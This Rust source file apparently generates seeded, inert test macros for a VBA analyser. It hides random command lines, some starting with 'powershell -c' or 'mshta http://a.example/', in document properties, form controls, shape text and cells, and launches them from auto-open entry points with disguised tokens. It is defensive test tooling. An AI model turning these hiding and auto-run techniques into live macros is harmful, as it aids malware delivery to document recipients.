//! Hides a known text in VBA the ways macros do: strings, tokens, launchers, values of the document. Seeded, inert.

mod hiding;
mod tokens;

use std::rc::Rc;
use strongroom_files::vba::{Collection, Datum, Document, Grid, Item, Module};

/// A small generator of numbers that is the same everywhere.
pub struct Seed(u64);

impl Seed {
    pub fn new(number: u64) -> Self {
        Seed(number.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    pub fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % (bound.max(1) as u64)).unwrap_or(0)
    }

    pub fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from.get(self.below(from.len())).copied().unwrap_or("")
    }

    pub fn letters(&mut self, least: usize, more: usize) -> String {
        let length = least + self.below(more);
        (0..length)
            .map(|_| char::from(b'a' + self.below(26) as u8))
            .collect()
    }
}

/// A macro that hides a command, and what is true of it.
pub struct Hidden {
    /// What a start is told as: the command, with its arguments behind it.
    pub started: String,
    pub modules: Vec<Module>,
    pub document: Document,
    pub kinds: Vec<&'static str>,
}

/// What is being written.
pub struct Macro {
    pub seed: Seed,
    pub functions: Vec<String>,
    pub kinds: Vec<&'static str>,
    names: Vec<String>,
    controls: Vec<Item>,
    properties: Vec<Item>,
    variables: Vec<Item>,
    shapes: Vec<Item>,
    cells: Vec<String>,
}

impl Macro {
    /// Returns a name that nothing else has.
    pub fn name(&mut self) -> String {
        loop {
            let name = format!("{}{}", self.seed.letters(4, 9), self.seed.below(100));
            if !self.names.contains(&name) {
                self.names.push(name.clone());
                return name;
            }
        }
    }

    /// Puts a text into the document; returns the expression that reads it there.
    pub fn stored(&mut self, text: &str) -> String {
        let valued = |name: &str| Item::named(name).with_text("value", text).defaulting("value");
        match self.seed.below(6) {
            0 => {
                let name = self.name();
                self.kinds.push("form");
                let control = Item::named(&name)
                    .with_text("text", text)
                    .with_text("value", text)
                    .with_text("tag", "no")
                    .defaulting("value");
                self.controls.push(control);
                match self.seed.below(3) {
                    0 => format!("UserForm1.{name}.Text"),
                    1 => format!("UserForm1.{name}"),
                    _ => format!("UserForm1.Controls(\"{}\").Value", name.to_uppercase()),
                }
            }
            1 => {
                let name = self.name();
                self.kinds.push("tag");
                self.controls.push(
                    Item::named(&name)
                        .with_text("tag", text)
                        .with_text("caption", "x"),
                );
                format!("UserForm1.{name}.Tag")
            }
            2 => {
                let name = self.name();
                self.kinds.push("property");
                self.properties.push(valued(&name));
                format!("ActiveDocument.BuiltInDocumentProperties(\"{name}\").Value")
            }
            3 => {
                let name = self.name();
                self.kinds.push("variable");
                self.variables.push(valued(&name));
                format!("ActiveDocument.Variables(\"{name}\")")
            }
            4 => {
                let name = self.name();
                self.kinds.push("alternative text");
                self.shapes
                    .push(Item::named(&name).with_text("alternativetext", text));
                format!("ThisDocument.Shapes(\"{name}\").AlternativeText")
            }
            _ => {
                self.kinds.push("cell");
                self.cells.push(text.to_owned());
                let row = self.cells.len();
                match self.seed.below(3) {
                    0 => format!("Sheets(\"Data\").Range(\"C{row}\").Value"),
                    1 => format!("Sheets(1).Cells({row}, 3)"),
                    _ => format!("ActiveSheet.Cells({row}, \"C\").Value2"),
                }
            }
        }
    }

    fn document(&self) -> Document {
        let named = |items: &[Item]| Collection::named(items.to_vec());
        let grid = Grid {
            cells: self
                .cells
                .iter()
                .enumerate()
                .map(|(row, text)| ((row as u32, 2), Datum::text(text)))
                .collect(),
            whole: true,
        };
        let sheet = Item {
            grid: Some(Rc::new(grid)),
            ..Item::named("Data")
        };
        let sheet = Rc::new(sheet.with_text("name", "Data"));
        let sheets = Collection {
            items: vec![sheet],
            counted: true,
        };
        let own = Item::default()
            .holding("builtindocumentproperties", named(&self.properties))
            .holding("variables", named(&self.variables))
            .holding("shapes", named(&self.shapes))
            .holding("sheets", sheets.clone())
            .holding("activesheet", sheets);
        let form = Item {
            members: Some("controls"),
            ..Item::named("UserForm1")
        };
        Document {
            own: Rc::new(own),
            forms: vec![Rc::new(form.holding("controls", named(&self.controls)))],
        }
    }
}

/// Returns a text as a literal.
pub fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn command(seed: &mut Seed) -> String {
    const LETTERS: &[u8] =
        b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -/.:\\\"$()'=,;+_";
    let start = seed.pick(&[
        "cmd.exe /c echo ",
        "powershell -c ",
        "calc ",
        "mshta http://a.example/",
        "",
    ]);
    let length = 4 + seed.below(90);
    let rest =
        (0..length).map(|_| char::from(LETTERS.get(seed.below(LETTERS.len())).copied().unwrap_or(b'x')));
    format!("{start}{}", rest.collect::<String>())
        .trim_end()
        .to_owned()
}

/// Returns the macro of a seed.
pub fn hidden(number: u64) -> Hidden {
    let mut this = Macro {
        seed: Seed::new(number),
        functions: Vec::new(),
        kinds: Vec::new(),
        names: Vec::new(),
        controls: Vec::new(),
        properties: Vec::new(),
        variables: Vec::new(),
        shapes: Vec::new(),
        cells: Vec::new(),
    };
    let command = command(&mut this.seed);
    let depth = 1 + this.seed.below(3);
    let expression = this.text(&command, depth);
    let (launcher, started) = this.launch(&expression, &command);
    let entry = this.seed.pick(&[
        "AutoOpen",
        "Document_Open",
        "Auto_Open",
        "Workbook_Open",
        "AutoExec",
    ]);
    let body = if this.seed.below(2) == 0 {
        launcher
    } else {
        let step = this.name();
        this.kinds.push("call");
        this.functions.push(format!("Sub {step}()\n{launcher}\nEnd Sub"));
        let how = this.seed.pick(&["Call ", "Application.Run \"", ""]);
        match how {
            "Application.Run \"" => format!("{how}{step}\""),
            how => format!("{how}{step}"),
        }
    };
    let mut parts = std::mem::take(&mut this.functions);
    parts.insert(
        this.seed.below(parts.len() + 1),
        format!("Sub {entry}()\n{body}\nEnd Sub"),
    );
    let declares: Vec<String> = parts
        .iter()
        .filter(|part| part.starts_with("Private Declare"))
        .cloned()
        .collect();
    parts.retain(|part| !part.starts_with("Private Declare"));
    // Split over two modules, declarations first.
    let half = this.seed.below(parts.len() + 1);
    let (first, second) = parts.split_at(half);
    let source = |parts: &[String], this: &mut Macro| {
        let joined = format!("{}\n{}\n", declares.join("\n"), parts.join("\n"));
        tokens::disguised(&joined, &mut this.seed)
    };
    let modules = vec![
        Module {
            name: "Module1".into(),
            source: source(first, &mut this),
        },
        Module {
            name: "ThisDocument".into(),
            source: source(second, &mut this),
        },
        Module {
            name: "UserForm1".into(),
            source: "Attribute VB_Name = \"UserForm1\"\nAttribute VB_Base = \"0{1}{2}\"\n".into(),
        },
    ];
    Hidden {
        started,
        document: this.document(),
        modules,
        kinds: this.kinds,
    }
}
